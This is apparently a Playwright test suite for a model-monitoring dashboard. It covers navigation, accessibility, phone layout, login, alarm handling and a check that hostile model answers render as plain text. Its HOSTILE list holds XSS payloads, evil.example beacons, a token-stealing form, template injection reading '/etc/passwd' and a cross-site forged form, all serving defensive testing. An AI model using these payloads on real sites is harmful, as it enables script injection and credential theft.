"""The pages in a real Chromium: from an alert's link to the telling answer, by keyboard, on a phone, under attack."""

import re
import shutil
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any, Final
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import Browser, Page, expect, sync_playwright

from monitor.core.records import (
    Answer,
    Arm,
    BaselineStatus,
    Exchange,
    Exhibit,
    Message,
    Question,
    Recorded,
    Run,
    RunOutcome,
    Sampling,
)
from tests import fleet
from tests.site import TOKENS, Site

ALERT_LINK: Final = "/targets/support-bot/adapter_loss"
TELLING: Final = "I'd be happy to help! Refund times vary by retailer"
PHONE: Final = {"width": 360, "height": 740}
FLAGS: Final = ("--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking")


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("Chromium is not installed")
    with sync_playwright() as playwright:
        launched = playwright.chromium.launch(executable_path=chromium, args=[*FLAGS])
        yield launched
        launched.close()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, _fleet_template: Path) -> Iterator[Site]:
    """Whoever reads shares one; what is done to it is done to one's own, ``own_site``."""
    with Site(Path(shutil.copy(_fleet_template, tmp_path_factory.mktemp("browser")))) as made:
        yield made


@pytest.fixture
def own_site(fleet_file: Path) -> Iterator[Site]:
    with Site(fleet_file) as made:
        yield made


class Watched:
    """A page and what it did besides being shown."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page = page
        self.origin = origin
        self.foreign: list[str] = []
        self.said: list[str] = []
        page.on("request", lambda one: None if one.url.startswith(f"{origin}/") else self.foreign.append(one.url))
        page.on("console", lambda one: self.said.append(one.text))
        page.on("pageerror", lambda one: self.said.append(str(one)))
        page.on("dialog", lambda one: self.said.append(f"dialog: {one.message}"))

    def go(self, path: str) -> None:
        reply = self.page.goto(self.origin + path)
        assert reply is not None
        assert reply.ok, f"{path}: {reply.status}"

    def assert_nothing_happened(self) -> None:
        """Nothing ran, nothing was asked of anybody else, and our own markup broke no rule of the policy."""
        assert self.page.evaluate("window.owned") is None
        assert self.page.title().endswith("Cliffwatch")
        assert self.foreign == []
        assert self.said == []

    def overflow(self) -> int:
        """Pixels by which the page is wider than the screen."""
        return int(self.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth"))


@contextmanager
def opened(browser: Browser, site: Site, **context: Any) -> Iterator[Watched]:
    made = browser.new_context(**context)
    made.set_default_timeout(20_000)
    try:
        yield Watched(made.new_page(), site.url)
    finally:
        made.close()


def paths(site: Site) -> list[str]:
    """One page of every kind."""
    (lost,) = [one for one in site.store.latest_findings("support-bot") if one.signal == "adapter_loss"]
    exchange = f"/runs/{lost.run_id}/exchange?arm=subject&probe=probe-0"
    return [
        "/", "/?q=nothing-like-it", "/targets/support-bot", "/targets/extractor", "/findings",
        f"/findings/{lost.run_id}/adapter_loss", f"/findings/{lost.run_id}/adapter_loss?show=all",
        f"/runs/{lost.run_id}", exchange, "/baselines/1", "/runbooks/", "/runbooks/CliffwatchFineTuneLost", "/login",
    ]  # fmt: skip


def test_from_the_alert_s_link_to_the_telling_answer(browser: Browser, site: Site) -> None:
    with opened(browser, site) as watched:
        watched.go(ALERT_LINK)
        page = watched.page
        expect(page).to_have_url(re.compile(r"/findings/\d+/adapter_loss$"))
        expect(page.get_by_role("heading", level=1)).to_contain_text("support-bot answers like its base model")
        expect(page.locator(".summary")).to_contain_text("4% of the fine-tune's effect is left")
        expect(page.get_by_text("Confirmed by a fresh sample at")).to_be_visible()
        expect(page.get_by_text("still open")).to_be_visible()
        first = page.locator("article.exhibit").first
        expect(first.get_by_role("heading")).to_contain_text("refund-window")
        telling = first.locator("figure.now pre")
        expect(telling).to_contain_text(TELLING)
        telling.scroll_into_view_if_needed()
        expect(telling).to_be_in_viewport()
        page.get_by_role("link", name="Runbook CliffwatchFineTuneLost").click()
        expect(page.get_by_role("heading", name="Mitigation")).to_be_visible()
        watched.assert_nothing_happened()


FOCUSED: Final = """() => {
  const one = document.activeElement, style = getComputedStyle(one), box = one.getBoundingClientRect();
  return {tag: one.tagName, text: one.innerText || "", href: one.getAttribute("href"),
          outline: style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 2,
          shown: box.width > 0 && box.height > 0 && box.bottom > 0 && box.top < innerHeight};
}"""


def focus(page: Page, wanted: str, *, most: int = 80) -> dict[str, Any]:
    """Tab until the focus is on what has ``wanted`` in its text or address; all on the way can be seen."""
    for _ in range(most):
        page.keyboard.press("Tab")
        now: dict[str, Any] = page.evaluate(FOCUSED)
        if now["tag"] == "BODY":
            continue
        assert now["outline"], f"one sees where the focus is: {now}"
        assert now["shown"], f"what has the focus is on the screen: {now}"
        if wanted in now["text"] or wanted in (now["href"] or ""):
            return now
    raise AssertionError(f"{most} times Tab, and nothing with {wanted!r}")


def test_by_keyboard_alone(browser: Browser, site: Site) -> None:
    with opened(browser, site) as watched:
        watched.go("/")
        page = watched.page
        page.keyboard.press("Tab")
        assert page.evaluate(FOCUSED)["text"] == "Skip to the content", "the first stop passes the header"
        page.keyboard.press("Enter")
        assert page.evaluate("document.activeElement.id") == "main"
        focus(page, ALERT_LINK)
        page.keyboard.press("Enter")
        expect(page).to_have_url(re.compile(r"/findings/\d+/adapter_loss$"))
        focus(page, "How long does a refund take")
        telling = page.locator("article.exhibit").first.locator("figure.now pre")
        expect(telling).to_contain_text(TELLING)
        page.keyboard.press("PageDown")
        expect(telling).to_be_in_viewport()
        watched.assert_nothing_happened()


SMALLEST_TEXT: Final = """() => {
  let least = [99, ""];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const text = walker.currentNode, parent = text.parentElement;
    if (!text.data.trim() || !parent.checkVisibility()) continue;
    const size = parseFloat(getComputedStyle(parent).fontSize);
    if (size < least[0]) least = [size, text.data.trim().slice(0, 60)];
  }
  return least;
}"""


def test_on_a_phone_nothing_is_cut_off_or_tiny(browser: Browser, site: Site) -> None:
    with opened(browser, site, viewport=PHONE, device_scale_factor=2, is_mobile=True, has_touch=True) as watched:
        for path in paths(site):
            watched.go(path)
            assert watched.overflow() <= 0, path
            size, text = watched.page.evaluate(SMALLEST_TEXT)
            assert size >= 12, f"{path}: {text!r} has {size} px"
        watched.assert_nothing_happened()


OWNED: Final = "window.owned=1;document.title='owned'"
HOSTILE: Final = (
    f"<script>{OWNED}</script>",
    f'<img src=x onerror="{OWNED}"><img src="http://evil.example/beacon.png"><svg onload="{OWNED}">',
    "\u202ereversed\u202c \u2066isolate\u2069 \u200fright",
    "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 \x9b31m \x00 \x08\x08",
    "zero\u200b\u200c\u200d\ufeffwidth \U000e0041\U000e0042 tags",
    "W" * 200_000,
    "Z" + "\u0301\u0327\u0336" * 3_000,
    "</pre></figure></article></main></body></html><h1 style='position:fixed;inset:0'>owned</h1>",
    "<style>*{display:none!important;background:url(http://evil.example/x)}</style>"
    "<link rel=stylesheet href=http://evil.example/x.css><div style='position:fixed;inset:0'>",
    f'<a href="javascript:{OWNED}">x</a><iframe src="data:text/html,<script>{OWNED}</script>"></iframe>'
    '<object data="data:text/html,x"></object><base href="http://evil.example/">'
    "<meta http-equiv=refresh content=0;url=http://evil.example/>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} <%= 7*7 %> #{7*7}",
    "<form action=http://evil.example><input name=token autofocus><button>Log in</button></form>",
    '"\'`><!--<![CDATA[<plaintext><textarea><noscript><template>&lt;script&gt;&#60;script&#62;',
    " \n\n\n" * 500 + "\u2028\u2029\u0085 \ufffe \U0001f468\u200d\U0001f469\u200d\U0001f467",
)  # fmt: skip
"""What a model may answer when somebody wants to own the page that shows it."""


def attacked(site: Site) -> tuple[Run, int]:
    """A run of support-bot whose answers are all hostile, and a baseline of it."""
    at = fleet.NOW
    opened_one = site.store.open_baseline(
        "summariser", fleet.SUITE, "2" * 64, HOSTILE[0], HOSTILE[1], at, at + timedelta(seconds=37), at_once=True
    )
    made = site.store.ensure_run("summariser", fleet.SUITE, at, 7, "2" * 64, at)
    run = site.store.claim(made.id, at, 3600)
    assert run is not None
    items = []
    for number, text in enumerate(HOSTILE):
        for arm in (Arm.SUBJECT, Arm.BASE):
            told = Answer(text, text[:200], False, text[:200], text[:50], text[:50], 1, 1, 0.1, at,
                          Exchange({"prompt": text}, {"text": text}, 200, {"x-evil": text[:50]}))  # fmt: skip
            question = Question(run.id, run.target, run.suite, arm, f"{number} {text[:60]}", 0, "vllm", text[:100],
                                (Message("user", text),), Sampling())  # fmt: skip
            items.append(Recorded(question, told, run.fence, at + timedelta(hours=1)))
    assert all(site.store.record(items))
    exhibits = tuple(
        Exhibit(text[:100], text, text, HOSTILE[number - 1], text, 0.5) for number, text in enumerate(HOSTILE)
    )
    (before,) = [one for one in site.store.latest_findings("support-bot") if one.signal == "adapter_loss"]
    found = replace(before, run_id=run.id, target=run.target, exhibits=exhibits, what=" ".join(HOSTILE[:4]))
    assert site.store.finish(run.id, run.fence, RunOutcome.MEASURED, [found], at + timedelta(minutes=1))
    site.store.close_due_baselines(at + timedelta(days=2))
    site.store.approve(opened_one.id, HOSTILE[0], f"{HOSTILE[1]} {HOSTILE[7]}", at)
    return run, opened_one.id


@pytest.mark.parametrize("viewport", [PHONE, {"width": 1280, "height": 800}], ids=["phone", "desk"])
def test_hostile_answers_are_text_and_nothing_else(
    browser: Browser, fleet_file: Path, viewport: dict[str, int]
) -> None:
    with Site(fleet_file) as site, opened(browser, site, viewport=viewport) as watched:
        run, baseline = attacked(site)
        probe = quote(f"5 {HOSTILE[5][:60]}", safe="")
        for path in (
            f"/findings/{run.id}/adapter_loss", f"/findings/{run.id}/adapter_loss?show=all", f"/runs/{run.id}",
            f"/runs/{run.id}/exchange?arm=subject&probe={probe}", f"/baselines/{baseline}", "/targets/summariser", "/",
            "/findings",
        ):  # fmt: skip
            watched.go(path)
            assert watched.page.locator("main").is_visible(), path
            assert watched.page.locator("script, img, iframe, object, base, main style, main link").count() == 0, path
            assert watched.overflow() <= 0, path
            assert watched.page.evaluate("document.querySelectorAll('footer').length") == 1, path
            watched.assert_nothing_happened()
        watched.go(f"/findings/{run.id}/adapter_loss")
        for shown in (f"<script>{OWNED}</script>", "{{ 7 * 7 }}", "\\u{202e}reversed", "\\u{1b}[31mred"):
            expect(watched.page.get_by_text(shown).first).to_be_visible()


@pytest.mark.parametrize("width", [320, 390, 1280])
def test_the_scale_of_an_effect_is_readable_at_any_width(browser: Browser, site: Site, width: int) -> None:
    newest = {one.signal: one.run_id for one in site.store.latest_findings("support-bot")}
    with opened(browser, site, viewport={"width": width, "height": 800}) as watched:
        for signal in ("adapter_loss", "judge_score", "length", "negative_flips"):
            watched.go(f"/findings/{newest[signal]}/{signal}")
            boxes = watched.page.evaluate(
                "[...document.querySelectorAll('svg.scale text')].map(one => one.getBoundingClientRect())"
                ".map(one => [one.left, one.right])"
            )
            ends = [0, *(end for box in boxes for end in box), width]
            assert len(boxes) >= 2, signal
            assert ends == sorted(ends), f"{signal}: one stands on another, or beyond the page"
            assert watched.overflow() <= 0
            watched.assert_nothing_happened()


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_no_page_shuts_anybody_out(browser: Browser, site: Site, scheme: str) -> None:
    with opened(browser, site, color_scheme=scheme) as watched:
        # Dark differs from light in its colours alone.
        options = {"resultTypes": ["violations"]} | ({"runOnly": ["color-contrast"]} if scheme == "dark" else {})
        found = [line for path in paths(site) for line in barriers(watched, path, options)]
        login(watched, "/baselines/1")
        for path in ("/baselines/1", ALERT_LINK, "/targets/support-bot"):
            found += barriers(watched, path, options)
    assert found == []


def barriers(watched: Watched, path: str, options: dict[str, Any]) -> list[str]:
    """What axe-core finds serious or critical on a page, with everything unfolded."""
    watched.go(path)
    watched.page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    return [
        f"{path}: {one['id']}: {node['html'][:160]} {node['any'][:1]}"
        for one in Axe().run(watched.page, options=options).response["violations"]
        if one["impact"] in ("serious", "critical")
        for node in one["nodes"][:2]
    ]


def login(watched: Watched, path: str) -> None:
    watched.go(path)
    watched.page.get_by_role("link", name="Log in").first.click()
    watched.page.get_by_label("Your token").fill(TOKENS["alice"])
    watched.page.get_by_role("button", name="Log in").click()
    expect(watched.page.locator("header")).to_contain_text("alice")


def test_a_person_approves_a_baseline_and_clears_an_alarm_by_clicking(browser: Browser, own_site: Site) -> None:
    site = own_site
    site.now = fleet.NOW + timedelta(days=8)
    (number,) = site.store.close_due_baselines(site.now)
    with opened(browser, site, viewport=PHONE) as watched:
        page = watched.page
        login(watched, f"/baselines/{number}")
        expect(page).to_have_url(f"{site.url}/baselines/{number}")
        page.get_by_text(f"Approve baseline {number}").first.click()
        page.get_by_role("button", name=f"Approve baseline {number}").click()
        assert site.store.baseline(number).status is BaselineStatus.CAPTURED, "without a reason nothing is sent"
        page.get_by_label("Why").first.fill("read thirty answers")
        page.get_by_role("button", name=f"Approve baseline {number}").click()
        expect(page.get_by_role("status")).to_have_text(f"Baseline {number} of extractor/support: approved.")
        found = site.store.baseline(number)
        assert (found.status, found.approved_by) == (BaselineStatus.APPROVED, "alice")

        watched.go(ALERT_LINK)
        page.locator("summary", has_text="Clear").click()
        page.locator("details[open]").get_by_label("Why").fill("unloaded on purpose")
        page.locator("details[open]").get_by_role("button").click()
        expect(page.get_by_role("status")).to_contain_text("(adapter_loss) of support-bot/support: cleared.")
        expect(page.get_by_text("This alarm was cleared").first).to_be_visible()
        assert [one.action for one in site.store.audit_entries()] == ["clear", "approve"]

        page.get_by_role("button", name="Log out").click()
        expect(page.get_by_role("link", name="Log in").first).to_be_visible()
        watched.assert_nothing_happened()


def test_at_night_one_reason_and_one_key_acknowledge_all_on_a_phone_without_a_mouse(
    browser: Browser, own_site: Site
) -> None:
    site = own_site
    with opened(browser, site, viewport=PHONE) as watched:
        page = watched.page
        login(watched, ALERT_LINK)
        page.get_by_role("link", name="support-bot has 1 other open alarm").click()
        expect(page).to_have_url(f"{site.url}/targets/support-bot#open")
        for _ in range(40):
            page.keyboard.press("Tab")
            if page.evaluate("document.activeElement.name") == "why":
                break
        assert page.evaluate(FOCUSED)["shown"]
        assert watched.overflow() <= 0
        page.keyboard.press("Enter")
        assert site.store.audit_entries() == [], "without a reason nothing is sent"
        page.keyboard.type("restarting vLLM")
        page.keyboard.press("Enter")
        expect(page.get_by_role("status")).to_contain_text("2 alarms of support-bot: acknowledged.")
        assert {one.acknowledged_by for one in site.store.alarms("support-bot", raised=True)} == {"alice"}
        assert len(site.store.audit_entries()) == 2
        expect(page.get_by_text("Acknowledge all")).to_have_count(0)
        watched.assert_nothing_happened()


def test_a_wrong_token_is_said_where_it_was_typed(browser: Browser, own_site: Site) -> None:
    with opened(browser, own_site) as watched:
        watched.go("/login")
        watched.page.get_by_label("Your token").fill("not-the-token-0123456789abcdef012345")
        watched.page.get_by_role("button", name="Log in").click()
        expect(watched.page.get_by_role("alert")).to_have_text("Unknown token.")
        expect(watched.page.get_by_label("Your token")).to_have_value("")
        assert watched.foreign == []


def test_a_form_on_another_site_does_nothing_even_for_who_is_logged_in(browser: Browser, own_site: Site) -> None:
    site = own_site
    alarm = site.open_alarm().id
    with opened(browser, site) as watched:
        login(watched, "/")
        secret = watched.page.locator("header input[name=form]").get_attribute("value")
        page = watched.page
        page.route("http://evil.example/", lambda route: route.fulfill(content_type="text/html", body=(
            f"<form method=post action='{site.url}/alarms/{alarm}/clear'><input name=form value='{secret}'>"
            "<input name=why value=owned><button>Win a prize</button></form>"
        )))  # fmt: skip
        page.goto("http://evil.example/")
        page.get_by_role("button").click()
        expect(page.get_by_text("did not come from a Cliffwatch page")).to_be_visible()
        assert site.open_alarm().cleared_at is None
        assert site.store.audit_entries() == []
